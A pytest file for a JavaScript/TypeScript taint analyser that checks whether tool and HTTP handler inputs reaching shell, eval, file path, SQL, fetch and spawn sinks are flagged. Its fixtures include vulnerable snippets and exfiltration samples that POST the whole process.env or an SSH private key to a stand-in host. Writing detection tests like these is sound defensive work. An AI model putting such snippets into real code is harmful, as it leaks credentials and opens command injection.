"""JS/TS taint on the tree: sources, flows through helper functions, sanitisers, and the bounds."""
from __future__ import annotations

import pytest

from sentinel_hooks.engine.js.parse import parse
from sentinel_hooks.engine.js.taint import analyse


def flows(source: str, path: str = "server.ts") -> list[tuple[int, str]]:
    root = parse(source.encode(), path)
    return sorted((f.start[0] + 1, f.kind) for f in analyse(root, path))


def tool(body: str, params: str = "{ q }", schema: str = "{ q: z.string() }") -> str:
    return f'server.tool("t", "a tool", {schema}, async ({params}) => {{\n{body}\n}});\n'


# ------------------------------------------------------------ sources
def test_a_destructured_tool_argument_reaching_exec_is_a_shell_flow() -> None:
    assert flows(tool("  exec(`grep ${q} /var/log/app.log`);")) == [(2, "shell")]


def test_register_tool_and_the_low_level_call_tool_handler_are_sources() -> None:
    registered = 'server.registerTool("t", { inputSchema: { q: z.string() } }, async (args) => {\n  eval(args.q);\n});\n'
    low_level = ('server.setRequestHandler(CallToolRequestSchema, async (request) => {\n'
                 '  const { arguments: args } = request.params;\n  eval(String(args.q));\n});\n')
    assert flows(registered) == [(2, "code")]
    assert flows(low_level) == [(3, "code")]


def test_express_and_node_http_handlers_are_sources_but_a_client_request_object_is_not() -> None:
    express = 'app.get("/x", (req, res) => {\n  res.sendFile(req.query.file);\n});\n'
    node_http = ('http.createServer((req, res) => {\n  const u = new URL(req.url, "http://h");\n'
                 '  fs.createReadStream(u.searchParams.get("f"));\n});\n')
    client = ('async function send(request: RawRequest) {\n  return fetch(request.path, { method: request.method });\n}\n')
    assert flows(express) == [(2, "path")]
    assert flows(node_http) == [(3, "path")]
    assert flows(client) == []


def test_a_value_outside_any_handler_is_not_input() -> None:
    assert flows("function run(args) {\n  exec(`ls ${args.dir}`);\n}\n") == []


def test_tool_class_execute_methods_take_tool_input() -> None:
    source = ("class SaveTool extends BrowserToolBase {\n  async execute(args: any) {\n"
              "    await page.pdf({ path: path.resolve(args.outputPath, 'a.pdf') });\n  }\n}\n")
    assert flows(source) == [(3, "path")]


# ------------------------------------------------------------ helpers (summaries)
def test_taint_flows_through_a_builder_and_into_a_runner_defined_elsewhere_in_the_file() -> None:
    source = ("function build(ref: string) { return 'git show ' + ref; }\n"
              "const run = (cmd: string) => execSync(cmd);\n"
              + tool("  run(build(q));"))
    assert flows(source) == [(2, "shell")]


def test_a_helper_called_only_with_constants_reports_nothing() -> None:
    source = ("function run(cmd: string) { return execSync(cmd); }\n"
              + tool("  run('git status');"))
    assert flows(source) == []


def test_taint_crosses_several_helpers_and_methods_of_a_class() -> None:
    source = ("class Repo {\n  read(p: string) { return this.open(p); }\n"
              "  open(p: string) { return fs.readFileSync(p); }\n}\n"
              + tool("  new Repo().read(q); helper(q);")
              + "function helper(x) { return step(x); }\nfunction step(y) { return fs.readFileSync(y); }\n")
    assert flows(source) == [(3, "path"), (9, "path")]


def test_recursive_helpers_terminate() -> None:
    source = ("function a(x) { return b(x); }\nfunction b(x) { return a(x) + exec(x); }\n" + tool("  a(q);"))
    assert flows(source) == [(2, "shell")]


def test_callbacks_of_array_methods_carry_the_receivers_taint() -> None:
    assert flows(tool("  q.split(',').forEach((item) => exec('rm ' + item));")) == [(2, "shell")]


# ------------------------------------------------------------ sanitisers
@pytest.mark.parametrize("guard", [
    "  if (!ALLOWED.includes(q)) throw new Error('no');",
    "  if (!/^[a-z0-9-]+$/.test(q)) throw new Error('no');",
])
def test_an_allow_list_guard_cleans_the_value(guard: str) -> None:
    assert flows(tool(guard + "\n  exec(`make ${q}`);")) == []


def test_a_switch_over_literals_cleans_the_value_inside_its_cases() -> None:
    body = "  switch (q) {\n    case 'a':\n      exec(`run ${q}`);\n      break;\n  }\n  exec(`run ${q}`);"
    assert flows(tool(body)) == [(7, "shell")]


def test_zod_enums_and_numbers_are_not_injectable() -> None:
    schema = "{ q: z.enum(['a', 'b']), n: z.number() }"
    assert flows(tool("  exec(`run ${q} ${n}`);", params="{ q, n }", schema=schema)) == []
    schema_object = "{ inputSchema: z.object({ q: z.enum(['a']) }) }"
    registered = f'server.registerTool("t", {schema_object}, async ({{ q }}) => {{\n  exec(`run ${{q}}`);\n}});\n'
    assert flows(registered) == []


def test_path_containment_counts_only_on_a_resolved_path_with_a_separator() -> None:
    weak = "  const p = path.join(ROOT, q);\n  if (!p.startsWith(ROOT)) throw new Error();\n  fs.readFileSync(p);"
    no_sep = "  const p = path.resolve(ROOT, q);\n  if (!p.startsWith(ROOT)) throw new Error();\n  fs.readFileSync(p);"
    good = ("  const p = path.resolve(ROOT, q);\n  if (!p.startsWith(ROOT + path.sep)) throw new Error();\n"
            "  fs.readFileSync(p);")
    relative = ("  const p = path.resolve(ROOT, q);\n  const rel = path.relative(ROOT, p);\n"
                "  if (rel.startsWith('..')) throw new Error();\n  fs.readFileSync(p);")
    assert flows(tool(weak)) == [(4, "path")]
    assert flows(tool(no_sep)) == [(4, "path")]
    assert flows(tool(good)) == []
    assert flows(tool(relative)) == []


def test_the_weak_prefix_check_is_named_in_the_message() -> None:
    root = parse(tool("  const p = path.join(ROOT, q);\n  if (p.startsWith(ROOT)) fs.rmSync(p);").encode(), "s.ts")
    [flow] = analyse(root, "s.ts")
    assert "startsWith() prefix check" in flow.message


def test_parameterised_queries_and_tagged_templates_are_safe_but_spliced_sql_is_not() -> None:
    assert flows(tool("  db.query('SELECT * FROM t WHERE a = $1', [q]);\n  sql`SELECT * FROM t WHERE a = ${q}`;")) == []
    assert flows(tool("  db.query(`SELECT * FROM t WHERE a = '${q}'`);")) == [(2, "sql")]
    assert flows(tool("  cache.get(q); map.get(`k${q}`);")) == []  # not SQL text


def test_a_url_with_a_fixed_host_is_not_ssrf_and_encoded_parts_stay_so() -> None:
    assert flows(tool("  fetch(`https://api.example.com/items/${encodeURIComponent(q)}`);")) == []
    assert flows(tool("  fetch('https://api.example.com/items/' + q);")) == []
    assert flows(tool("  fetch(`https://${q}/items`);")) == [(2, "ssrf")]
    assert flows(tool("  axios.get(q);")) == [(2, "ssrf")]


def test_argument_lists_need_a_double_dash_or_a_dash_check() -> None:
    assert flows(tool("  spawn('git', ['log', q]);")) == [(2, "argument")]
    assert flows(tool("  spawn('git', ['log', '--', q]);")) == []
    assert flows(tool("  spawn('git', ['log', `--author=${q}`]);")) == []
    assert flows(tool("  if (q.startsWith('-')) throw new Error();\n  spawn('git', ['log', q]);")) == []
    assert flows(tool("  spawn('git', ['log', q], { shell: true });")) == [(2, "shell")]
    assert flows(tool("  spawn('bash', ['-c', `echo ${q}`]);")) == [(2, "shell")]


# ------------------------------------------------------------ exfiltration
def test_the_whole_environment_or_a_key_file_sent_to_a_fixed_host_is_exfiltration() -> None:
    env = "fetch('https://collect.example.net/e', { method: 'POST', body: JSON.stringify(process.env) });\n"
    key = ("const k = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8');\n"
           "axios.post('https://collect.example.net/k', { k });\n")
    assert flows(env) == [(1, "exfiltration")]
    assert flows(key) == [(2, "exfiltration")]


def test_one_environment_variable_or_a_local_host_is_not_exfiltration() -> None:
    one = "fetch('https://api.example.com/v1', { headers: { Authorization: `Bearer ${process.env.TOKEN}` } });\n"
    local = "fetch('http://127.0.0.1:9000/e', { method: 'POST', body: JSON.stringify(process.env) });\n"
    assert flows(one) == []
    assert flows(local) == []


# ------------------------------------------------------------ grammars
def test_javascript_and_jsx_files_use_the_javascript_grammar() -> None:
    source = 'app.post("/run", (req, res) => {\n  exec(req.body.cmd);\n  return <div/>;\n});\n'
    assert flows(source, "routes.jsx") == [(2, "shell")]


def test_a_local_validator_is_analysed_and_a_bare_prefix_check_inside_it_does_not_contain_the_path() -> None:
    validator = ("async function validatePath(p: string) {\n"
                 "  const absolute = path.resolve(p);\n"
                 "  const real = await fs.realpath(absolute);\n"
                 "  const normalized = normalizePath(real);\n"
                 "  const allowed = {check};\n"
                 "  if (!allowed) throw new Error('denied');\n"
                 "  return real;\n}\n")
    handler = tool("  const valid = await validatePath(q);\n  return fs.readFile(valid, 'utf8');")
    prefix = validator.replace("{check}", "DIRS.some((dir) => normalized.startsWith(dir))")
    checked = validator.replace("{check}", "isPathWithinAllowedDirectories(normalized, DIRS)")
    assert flows(prefix + handler) == [(11, "path")]
    assert flows(checked + handler) == []


def test_a_validator_imported_from_elsewhere_is_trusted_by_its_name_but_safe_parse_is_not_a_validator() -> None:
    assert flows(tool("  fs.readFileSync(await validatePath(q));")) == []
    assert flows(tool("  const a = Schema.safeParse(q);\n  fs.readFileSync(a.data.path);")) == [(3, "path")]
